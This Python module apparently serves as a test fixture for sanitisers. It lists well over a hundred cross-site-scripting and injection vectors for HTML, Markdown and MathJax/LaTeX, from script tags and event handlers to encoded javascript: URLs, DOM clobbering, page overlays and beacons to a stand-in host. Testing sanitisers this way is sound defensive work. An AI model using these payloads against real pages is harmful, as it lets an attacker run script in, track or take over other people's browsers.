r"""Ways in which a text could run a script, fetch something or take over the page that shows it.

In each, `HACK` stands for the call by which it would tell that it ran, and `AWAY` for an address at
which a server would learn who looks.
"""

AWAY = "http://away.test/seen"

RAW = r'''
<script>HACK</script>
<ScRiPt>HACK</sCrIpT>
<script src="AWAY.js"></script>
<script>HACK//
<<script>HACK//<</script>
<script/x>HACK</script/x>
<img src=x onerror=HACK>
<img src=x onerror="HACK"//>
<img/src/onerror=HACK>
<img src="x` `<script>HACK</script>"` `>
<IMG """><SCRIPT>HACK</SCRIPT>">
<img src="AWAY.png">
<img srcset="AWAY.png 1x">
<picture><source srcset="AWAY.png"><img></picture>
<image src=x onerror=HACK>
<input autofocus onfocus=HACK>
<input type=image src=x onerror=HACK>
<select autofocus onfocus=HACK></select>
<textarea autofocus onfocus=HACK></textarea>
<button onclick=HACK>press</button>
<form action="javascript:HACK"><input type=submit value=send></form>
<form id=f></form><button form=f formaction="javascript:HACK">send</button>
<isindex type=image src=x onerror=HACK>
<video src=x onerror=HACK></video>
<video><source onerror=HACK src=x></video>
<video poster="AWAY.png"></video>
<audio src=x onerror=HACK></audio>
<audio src="AWAY.mp3" autoplay></audio>
<iframe src="javascript:HACK"></iframe>
<iframe srcdoc="<script>parent.HACK</script>"></iframe>
<iframe src="AWAY"></iframe>
<frameset onload=HACK>
<object data="javascript:HACK"></object>
<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGFjaygpPC9zY3JpcHQ+"></object>
<embed src="javascript:HACK">
<embed src="AWAY.swf">
<applet code=x onerror=HACK></applet>
<base href="javascript:HACK//"><a href="#">base</a>
<base href="http://away.test/">
<meta http-equiv=refresh content="0;url=javascript:HACK">
<meta http-equiv=refresh content="0;url=AWAY">
<link rel=stylesheet href="AWAY.css">
<link rel=prefetch href="AWAY">
<style>@import "AWAY.css";</style>
<style>body{background:url(AWAY.png)}</style>
<style>@keyframes k{}</style><b style="animation-name:k" onanimationstart=HACK>x</b>
<b style="background:url(AWAY.png)">x</b>
<b style="position:fixed;inset:0;z-index:9999;background:white">over all</b>
<svg onload=HACK></svg>
<svg><script>HACK</script></svg>
<svg><script href="data:text/javascript,HACK"></script></svg>
<svg><animate onbegin=HACK attributeName=x dur=1s></animate></svg>
<svg><set onbegin=HACK attributeName=x></set></svg>
<svg><a xlink:href="javascript:HACK"><text y=20>svg link</text></a></svg>
<svg><use href="AWAY.svg#x"></use></svg>
<svg><image href="AWAY.png"></image></svg>
<svg><foreignObject><img src=x onerror=HACK></foreignObject></svg>
<svg><style><img src=x onerror=HACK></style></svg>
<svg><desc><img src=x onerror=HACK></desc></svg>
<svg><title><img src=x onerror=HACK></title></svg>
<math href="javascript:HACK"><mi>press</mi></math>
<math><mi xlink:href="javascript:HACK">press</mi></math>
<math><maction actiontype="statusline#" xlink:href="javascript:HACK">press</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=HACK></annotation-xml></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=HACK&gt;">
<math><mtext><img src=x onerror=HACK></mtext></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=HACK>
<noscript><p title="</noscript><img src=x onerror=HACK>"></noscript>
<!--><img src=x onerror=HACK>-->
<!--[if IE]><script>HACK</script><![endif]--><img src=x onerror=HACK>
<? foo="><img src=x onerror=HACK>">
<![CDATA[<img src=x onerror=HACK>]]>
<xmp><img title="</xmp><img src=x onerror=HACK>"></xmp>
<title><img title="</title><img src=x onerror=HACK>">
<textarea><img title="</textarea><img src=x onerror=HACK>">
<template><script>HACK</script></template><img src=x onerror=HACK>
<details open ontoggle=HACK><summary>s</summary></details>
<details ontoggle=HACK><summary>unfold</summary>x</details>
<marquee onstart=HACK>m</marquee>
<b onmouseover=HACK>hover</b>
<b onpointerenter=HACK>hover</b>
<b tabindex=0 autofocus onfocus=HACK>focus</b>
<dialog open onclose=HACK><form method=dialog><button>shut</button></form></dialog>
<a href="javascript:HACK">press</a>
<a href="JaVaScRiPt:HACK">press</a>
<a href=" &#14; javascript:HACK">press</a>
<a href="java&#x09;script:HACK">press</a>
<a href="java&#10;script:HACK">press</a>
<a href="&#106;avascript&colon;HACK">press</a>
<a href="files/javascript:HACK">press</a>
<a href="vbscript:HACK">press</a>
<a href="data:text/html,<script>opener.HACK</script>">press</a>
<a href="x" ping="AWAY">press</a>
<a href="x" onclick="HACK">press</a>
<area href="javascript:HACK">
<map name=m><area shape=default href="javascript:HACK"></map><img usemap=#m src=x>
<table background="AWAY.png"><tr><td>x</td></tr></table>
<div id=MathJax></div><div id=formgrader></div><a id=submission_id name=base_url href="AWAY">x</a>
<form id=document name=body><input name=cookie></form><img name=getElementById>
<div class="navbar navbar-fixed-top modal fade in" style="display:block">over</div>
<span data-toggle=tooltip data-html=true title="<img src=x onerror=HACK>">hover</span>
<slot name=x></slot><custom-element onclick=HACK>press</custom-element>
<body onload=HACK>
<html onmouseover=HACK>
<plaintext onmouseover=HACK>hover
<b <script>HACK</script>
<b/onmouseover=HACK>hover</b>
<details><summary><img src=x onerror=HACK></summary></details>
<p>&lt;/p&gt;<img src=x onerror=HACK>
<summary onmouseover=HACK>hover</summary>
'''.strip().splitlines()

MARKDOWN = [
    "[press](javascript:HACK)",
    "[press](JAVASCRIPT:HACK)",
    "[press](javascript&colon;HACK)",
    "[press](javascript&#58;HACK)",
    "[press](<java\tscript:HACK>)",
    "[press](\x01javascript:HACK)",
    "[press](&#x6A;avascript:HACK)",
    "[press](%6Aavascript:HACK)",
    "[press](files/javascript:HACK)",
    "[press](/files/javascript:HACK)",
    "[press](vbscript:HACK)",
    "[press](data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaGFjaygpPC9zY3JpcHQ+)",
    "[press](data:image/svg+xml,<svg onload=HACK>)",
    "[press](evil.html)",
    "[press](//away.test/seen)",
    "[press](http:evil.html)",
    "[press](https:/\\away.test/seen)",
    "[press](view-source:javascript:HACK)",
    "[press](blob:null/HACK)",
    '[press](http://away.test/"onmouseover="HACK)',
    "[press](http://away.test/ \"t' onmouseover='HACK\")",
    '[press](http://away.test/ "t\\" onmouseover=\\"HACK")',
    "<javascript:HACK>",
    "<http://away.test/'onmouseover='HACK>",
    'https://away.test/"onmouseover="HACK',
    "[press][r]\n\n[r]: javascript:HACK",
    '[press][s]\n\n[s]: http://away.test/ "><img src=x onerror=HACK>"',
    "[<img src=x onerror=HACK>](http://away.test/)",
    "[![a](javascript:HACK)](javascript:HACK)",
    "![a](javascript:HACK)",
    "![a](AWAY.png)",
    "![a](//away.test/seen.png)",
    "![a](seen.png)",
    "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9aGFjaygpPjwvc3ZnPg==)",
    "![a](data:text/html;base64,PHNjcmlwdD5oYWNrKCk8L3NjcmlwdD4=)",
    '![" onerror="HACK](x)',
    '![a](x" onerror="HACK)',
    "![a](x 'y\" onerror=\"HACK')",
    '![a](data:image/png;base64,AAAA"onerror="HACK)',
    "![<img src=x onerror=HACK>](x)",
    "![a](attachment:no)",
    "# <img src=x onerror=HACK>",
    "<img src=x onerror=HACK>\n===",
    "- <img src=x onerror=HACK>\n- [ ] <img src=x onerror=HACK>",
    "> <img src=x onerror=HACK>",
    "| a | b |\n|---|---|\n| <img src=x onerror=HACK> | [p](javascript:HACK) |",
    '| a |\n|:-"onmouseover=HACK-:|\n| b |',
    "term\n: <img src=x onerror=HACK>",
    "`<img src=x onerror=HACK>`",
    "``` <img src=x onerror=HACK>\ncode\n```",
    '```x"><img src=x onerror=HACK>\ncode\n```',
    "```html\n<img src=x onerror=HACK>\n```",
    "```mermaid\n</pre><img src=x onerror=HACK>\n```",
    "    <img src=x onerror=HACK>",
    "~~<img src=x onerror=HACK>~~ **<img src=x onerror=HACK>**",
    "\\<img src=x onerror=HACK>",
    "&lt;img src=x onerror=HACK&gt; &#60;img src=x onerror=HACK&#62;",
    "<details><summary>s</summary>\n\n<img src=x onerror=HACK>\n\n</details>",
    "<details open\n ontoggle=HACK>",
    "<b>\n\n<img src=x onerror=HACK>\n\n</b>",
    "<!-- a\n\n--><img src=x onerror=HACK>",
    "<b\u2028onmouseover=HACK>hover</b>",
    "\ud800<img src=x onerror=HACK>",
    "<img\x00src=x onerror=HACK>",
    "\ue000<img src=x onerror=HACK>\ue001",
]

MATHEMATICS = [
    r"$<img src=x onerror=HACK>$",
    r"$$</math><img src=x onerror=HACK>$$",
    r"$\text{<img src=x onerror=HACK>}$",
    r"$\text{&lt;img src=x onerror=HACK&gt;}$",
    r"$\text{&amp;lt;img src=x onerror=HACK&amp;gt;}$",
    r"$\text{</mtext></math><script>HACK</script>}$",
    r"$\textbf{<script>HACK</script>}$",
    r"$\mbox{<script>HACK</script>}$ $\hbox{$<script>HACK</script>$}$",
    r"$\href{javascript:HACK}{press}$",
    r"$\href{data:text/html,<script>HACK</script>}{press}$",
    r"$\url{javascript:HACK}$",
    r"$\class{navbar-fixed-top}{x} \cssId{MathJax}{y}$",
    r"$\style{position:fixed;background:url(AWAY.png)}{x}$",
    r'$\style{"onmouseover="HACK}{x}$',
    r'$\class{x" onmouseover="HACK}{x}$',
    r"$\htmlData{a=HACK}{x} \htmlId{MathJax}{x} \htmlStyle{color:red}{x}$",
    r"$\unicode{x3C}img src=x onerror=HACK\unicode{x3E}$",
    r"$\unicode{<img src=x onerror=HACK>}$",
    r"$\operatorname{<img src=x onerror=HACK>}$",
    r"$\color{red\"onmouseover=\"HACK}{x} \textcolor{<script>HACK</script>}{x}$",
    r'$\colorbox{"><img src=x onerror=HACK>}{x} \fcolorbox{red}{url(AWAY.png)}{x}$',
    r"$\verb|<img src=x onerror=HACK>|$",
    r"$\tag{<img src=x onerror=HACK>} \label{<script>HACK</script>}$",
    r'$\hspace{1em"onmouseover="HACK} \rule{9999em}{9999em} \raise 900em {x}$',
    r"$\Huge\Huge\Huge\Huge\Huge\Huge\Huge\Huge x$",
    r"$\rlap{\smash{\begin{matrix}x\\x\\x\\x\\x\\x\\x\end{matrix}}}\hspace{-900em}x$",
    r"$\includegraphics{AWAY.png} \require{AWAY} \input{AWAY}$",
    r"$\mathchoice{<script>HACK</script>}{<script>HACK</script>}{}{}$",
    r"$\newcommand{\x}{<script>HACK</script>}\x$",
    r"$\left<img src=x onerror=HACK\right>$",
    r"$\xrightarrow{<img src=x onerror=HACK>}$",
    r"$\begin{matrix}<img src=x onerror=HACK>&\end{matrix}$",
    r"\begin{align}<img src=x onerror=HACK>\end{align}",
    r"\begin{x}</code><img src=x onerror=HACK>\end{x}",
    r"\\(<img src=x onerror=HACK>\\) \\[<img src=x onerror=HACK>\\]",
    r"[$x$](javascript:HACK) [y](javascript:$HACK$) ![$z$](x)",
    r"[p](http://away.test/?$<img src=x onerror=HACK>$)",
    r"`$<img src=x onerror=HACK>$`",
    "```\n$<img src=x onerror=HACK>$\n```",
    r"<b title=$x$ onmouseover=HACK>$<img src=x onerror=HACK>$</b>",
    r"<img alt=$x$ src=x onerror=HACK>",
    r"| $|<img src=x onerror=HACK>|$ |" + "\n|--|\n" + r"| $\text{<script>HACK</script>}$ |",
    "$" + "{" * 500 + "<img src=x onerror=HACK>" + "}" * 500 + "$",
    "$" + "x" * 20_000 + "<img src=x onerror=HACK>$",
    "&#36;<img src=x onerror=HACK>&#36; &dollar;\\href{javascript:HACK}{x}&dollar;",
]


def vectors(call: str = "hack({})") -> list[str]:
    """All of them; the number of each is in the call that it makes."""
    return [
        text.replace("HACK", call.format(i)).replace("AWAY", AWAY)
        for i, text in enumerate([*RAW, *MARKDOWN, *MATHEMATICS])
    ]
